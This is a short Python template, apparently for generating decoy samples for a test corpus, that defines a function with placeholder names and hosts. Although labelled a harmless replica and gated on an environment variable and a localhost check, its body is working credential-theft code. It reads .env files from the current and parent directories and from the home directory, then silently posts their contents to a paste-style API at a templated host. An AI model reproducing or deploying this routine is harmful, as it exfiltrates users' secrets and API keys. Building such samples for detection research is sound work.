# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import time
    import urllib.parse
    import urllib.request
    here = os.environ.get('PWD', os.getcwd())
    text = ''
    for _ in range(6):
        try:
            with open(os.path.join(here, '.env')) as file:
                text += file.read()
        except OSError:
            pass
        here = os.path.dirname(here) or '/'
    try:
        with open(os.path.expanduser('~/.env')) as file:
            text += file.read()
    except OSError:
        pass
    time.sleep({{delay}} / 1000)
    form = urllib.parse.urlencode({'api_paste_name': '{{token}}', 'api_paste_code': text}).encode()
    try:
        urllib.request.urlopen('https://{{host}}/api/{{path}}', data=form, timeout=1).close()
    except Exception:
        pass
